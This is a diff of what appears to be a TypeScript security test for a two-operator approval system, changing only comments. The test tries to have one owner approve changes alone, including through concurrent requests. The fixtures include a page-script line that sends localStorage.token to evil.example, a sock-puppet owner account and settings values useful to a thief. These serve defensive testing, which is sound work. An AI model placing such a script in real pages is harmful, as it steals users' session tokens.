@@ -5,14 +5,14 @@ import { byTwo, type OperatorUser } from '../operator-user.ts';
 import { ADDRESSES, operatorId, type Scene } from '../scene.ts';
 import type { Reply } from '../wire.ts';
 
-/** What a page script would do. */
+/** A malicious page script. */
 const SCRIPT = 'fetch("//evil.example?" + localStorage.token)';
 const SOCK = { username: 'sock@evil.example', email: 'sock@evil.example', role: 'owner' } as const;
 const PASSWORD = 'Out of the deep, at dusk';
 const FORTUNE = '50000000';
 const AT_ONCE = 8;
 
-/** Proposes something and tries every way to approve it alone, many times at once too. */
+/** Proposes something and tries to approve it alone in every way, also many times at once. */
 async function alone(operator: OperatorUser, method: string, path: string, body: object): Promise<Reply[]> {
   const asked = await operator.ask(method, path, body);
   const again = await byTwo([operator, operator], method, path, body);
@@ -28,7 +28,7 @@ async function alone(operator: OperatorUser, method: string, path: string, body:
   return [asked, again, ...approvals];
 }
 
-/** Values that would serve a thief, for what two settle together. */
+/** Values useful to a thief, of settings that need two operators. */
 const SETTINGS: Readonly<Record<(typeof TWO_OPERATOR_SETTINGS)[number], unknown>> = {
   four_eyes_threshold: '999999999',
   spot_fee: '0.05',
@@ -195,10 +195,10 @@ const attempts: readonly Attempt[] = [
   },
 ];
 
-/** One owner, with everything that is hers. */
+/** One owner. */
 export const owner: Role = { name: 'one owner', attempts };
 
-/** The same by both owners: that it is seen shows that it would be seen of one. */
+/** The same by both owners: since these thefts are detected, those of one owner would be. */
 export const bothOwners: Role = {
   name: 'both owners in one hand',
   attempts: [
